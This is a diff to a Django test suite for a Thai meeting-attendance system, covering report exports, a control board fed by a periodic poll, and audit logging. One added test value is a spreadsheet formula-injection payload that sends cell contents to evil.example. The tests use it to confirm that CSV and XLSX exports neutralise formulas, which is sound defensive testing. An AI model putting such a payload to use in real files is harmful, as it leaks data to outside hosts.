@@ -11,11 +11,12 @@ from datetime import timedelta
 import pytest
 import time_machine
 from django.urls import reverse
+from django.utils import timezone
 
 from districts.models import Site, Staff
 from join import services, tasks
 from join.links import site_marker
-from join.models import Attendance, TestCall
+from join.models import ATTENDANCE_GRACE, Attendance, AttendancePoll, TestCall
 from join.selectors import attendance_report
 from meetings.backends.base import Participant
 from meetings.backends.fake import FakeBackend
@@ -110,15 +111,19 @@ def test_the_report_as_csv_and_as_the_attendee_section_of_thai_minutes(login, fa
     response = client.get(reverse("join:attendance-csv", kwargs={"pk": meeting.pk}))
     assert response["Content-Type"].startswith("text/csv")
     assert response.content.startswith(b"\xef\xbb\xbf")
-    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert lines[0] == ["รายงานการเข้าร่วมประชุม"]
+    assert lines[1] == [meeting.title]
+    header = next(i for i, row in enumerate(lines) if row[:1] == ["รหัสสถานที่"])
+    table = lines[header:]
     assert table[0][:4] == ["รหัสสถานที่", "สถานที่", "บทบาท", "สถานะ"]
-    by_code = {row[0]: row for row in table[1:] if row[0]}
+    by_code = {row[0]: row for row in table[1:] if row and row[0].isdigit()}  # a site per row, then notes
     assert by_code[HALL][3] == "มาประชุม"
     assert by_code[HALL][2] == "ประธาน"
     assert by_code[MUEANG][3] == "มาประชุม (ช้า)"
     assert by_code[MUEANG][6] == "25"
     assert by_code[KUMPHAWAPI][3] == "ไม่มาประชุม"
-    assert any(row[1] == "แขก · ผู้สังเกตการณ์" for row in table[1:])
+    assert any(row[1:2] == ["แขก · ผู้สังเกตการณ์"] for row in table[1:])
     from foundation.models import AuditEntry
 
     exported = AuditEntry.objects.get(action="export", target_id=str(meeting.pk))  # personal data: audited
@@ -140,6 +145,12 @@ def test_the_control_centre_shows_who_is_connected_since_when_and_the_phone_of_a
     TestCall.objects.create(site=site(MUEANG), token="t" * 43, result=TestCall.Result.OK,
                             finished_at=meeting.start - timedelta(hours=2))
     client = login(Staff.Role.SCHEDULER, HALL)
+    before = client.get(reverse("join:control")).content.decode()
+    assert "0/3 เชื่อมต่อแล้ว" in before  # the page only reads: nobody asked the server yet
+    assert "ยังไม่ได้ถามเซิร์ฟเวอร์ประชุม" in before
+    assert not Attendance.objects.filter(meeting=meeting).exists()
+
+    tasks.attendance_sweep()  # what beat runs every PRACHUM_ATTENDANCE_POLL_SECONDS
     page = client.get(reverse("join:control"))
     assert page.status_code == 200
     body = page.content.decode()
@@ -151,9 +162,13 @@ def test_the_control_centre_shows_who_is_connected_since_when_and_the_phone_of_a
     assert 'data-site="4104" data-state="not_yet"' in body
     assert 'href="tel:042-999111"' in body
     assert "ทดสอบระบบแล้ว 1/3" in body
-    assert sorted(rows(meeting)) == [HALL, MUEANG]  # the page's poll recorded them
+    assert sorted(rows(meeting)) == [HALL, MUEANG]  # the task's poll recorded them
+    assert "ข้อมูลจากเซิร์ฟเวอร์ประชุมเมื่อ" in body
 
     FakeBackend.set_participants(meeting.room.number, here(HALL, KUMPHAWAPI))
+    unchanged = client.get(reverse("join:control-board"), headers={"HX-Request": "true"}).content.decode()
+    assert 'data-site="4101" data-state="connected"' in unchanged  # until the next poll
+    tasks.attendance_sweep()
     board = client.get(reverse("join:control-board"), headers={"HX-Request": "true"})
     fragment = board.content.decode()
     assert "<html" not in fragment
@@ -166,11 +181,26 @@ def test_a_media_server_that_does_not_answer_keeps_the_board_and_says_so(login, 
     meeting = schedule(sites=(MUEANG,))
     FakeBackend.set_participants(meeting.room.number, here(HALL, MUEANG))
     client = login(Staff.Role.SCHEDULER, HALL)
-    client.get(reverse("join:control"))
+    tasks.attendance_sweep()
     FakeBackend.down = True
+    assert "ติดต่อเซิร์ฟเวอร์สื่อไม่ได้" not in client.get(reverse("join:control-board")).content.decode()
+    tasks.attendance_sweep()
     fragment = client.get(reverse("join:control-board")).content.decode()
     assert "ติดต่อเซิร์ฟเวอร์สื่อไม่ได้" in fragment
     assert "2/2 เชื่อมต่อแล้ว" in fragment  # the last known state stays
+
+
+def test_the_board_warns_when_the_periodic_task_has_not_asked_for_a_while(login, fake_server, schedule):
+    meeting = schedule(sites=(MUEANG,))
+    FakeBackend.set_participants(meeting.room.number, here(HALL, MUEANG))
+    client = login(Staff.Role.SCHEDULER, HALL)
+    tasks.attendance_sweep()
+    warning = "ข้อมูลผู้เชื่อมต่ออาจไม่เป็นปัจจุบัน"
+    assert warning not in client.get(reverse("join:control-board")).content.decode()
+    with time_machine.travel(timezone.now() + timedelta(seconds=31), tick=False):  # 3 x 10 s without a poll
+        late = client.get(reverse("join:control-board")).content.decode()
+    assert warning in late
+    assert "2/2 เชื่อมต่อแล้ว" in late
 
 
 def test_the_periodic_task_polls_meetings_in_their_window_and_closes_what_was_left_open(fake_server, schedule):
@@ -182,9 +212,12 @@ def test_the_periodic_task_polls_meetings_in_their_window_and_closes_what_was_le
     assert outcome["polled"] == 1  # the later meeting's window is not open yet
     assert sorted(rows(meeting)) == [HALL, MUEANG]
     assert rows(later) == {}
+    poll = AttendancePoll.objects.get(meeting=meeting)  # when it asked, for the control centre
+    assert (poll.error, abs(timezone.now() - poll.polled_at) < timedelta(minutes=1)) == ("", True)
+    assert not AttendancePoll.objects.filter(meeting=later).exists()
 
     FakeBackend.reset()  # the server restarted and forgot everyone: nobody is polled in a room that vanished
-    after = meeting.end + services.ATTENDANCE_GRACE + timedelta(minutes=1)
+    after = meeting.end + ATTENDANCE_GRACE + timedelta(minutes=1)
     with time_machine.travel(after, tick=False):
         outcome = tasks.attendance_sweep()
     assert outcome["closed_rows"] == 2
@@ -205,3 +238,60 @@ def test_attendance_from_a_real_janus(janus, janus_server, schedule):
     assert result.left == [site_marker(site(MUEANG))]
     [(joined, left)] = rows(meeting)[MUEANG]
     assert left >= joined
+
+
+HOSTILE_GUEST = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
+
+
+@pytest.mark.parametrize("file_format", ["xlsx", "pdf"])
+def test_the_report_as_xlsx_and_pdf_through_the_exporter_and_a_formula_never_runs(
+    login, fake_server, schedule, file_format, tmp_path
+):
+    meeting, _ = meeting_attended(schedule)
+    services.attendance_record(meeting_id=meeting.pk, present=here(HALL, guests=(HOSTILE_GUEST,)),
+                               now=meeting.start + timedelta(minutes=30))
+    client = login(Staff.Role.SCHEDULER, HALL)
+    response = client.get(reverse("join:attendance-export", kwargs={"pk": meeting.pk, "file_format": file_format}))
+    assert response.status_code == 200
+    assert response["Content-Disposition"] == f'attachment; filename="attendance-{meeting.pk}.{file_format}"'
+    if file_format == "xlsx":
+        from openpyxl import load_workbook
+
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
+        by_code = {row[0]: row for row in cells if row and row[0] in {HALL, MUEANG, KUMPHAWAPI}}
+        assert (by_code[MUEANG][3], by_code[MUEANG][6]) == ("มาประชุม (ช้า)", 25)
+        assert by_code[KUMPHAWAPI][3] == "ไม่มาประชุม"
+        guest = next(row for row in cells if row and row[1] and "HYPERLINK" in str(row[1]))
+        assert guest[1] == "'" + HOSTILE_GUEST  # text, not a formula
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    else:
+        import subprocess
+
+        pdf = tmp_path / "attendance.pdf"
+        pdf.write_bytes(response.content)
+        text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
+                              check=True).stdout
+        assert response.content.startswith(b"%PDF")
+        for code in (HALL, MUEANG, KUMPHAWAPI):
+            assert code in text
+    from foundation.models import AuditEntry
+
+    assert AuditEntry.objects.get(action="export", target_id=str(meeting.pk)).detail["export"] == (
+        f"attendance.{file_format}")
+
+
+def test_a_formula_in_a_guests_name_is_text_in_the_csv(login, fake_server, schedule):
+    meeting, _ = meeting_attended(schedule)
+    services.attendance_record(meeting_id=meeting.pk, present=here(HALL, guests=(HOSTILE_GUEST,)),
+                               now=meeting.start + timedelta(minutes=30))
+    response = login(Staff.Role.SCHEDULER, HALL).get(reverse("join:attendance-csv", kwargs={"pk": meeting.pk}))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert ["'" + HOSTILE_GUEST] == [row[1] for row in rows if len(row) > 1 and "HYPERLINK" in row[1]]
+
+
+def test_an_unknown_export_format_is_not_found(login, fake_server, schedule):
+    meeting, _ = meeting_attended(schedule)
+    client = login(Staff.Role.SCHEDULER, HALL)
+    url = reverse("join:attendance-export", kwargs={"pk": meeting.pk, "file_format": "docx"})
+    assert client.get(url).status_code == 404
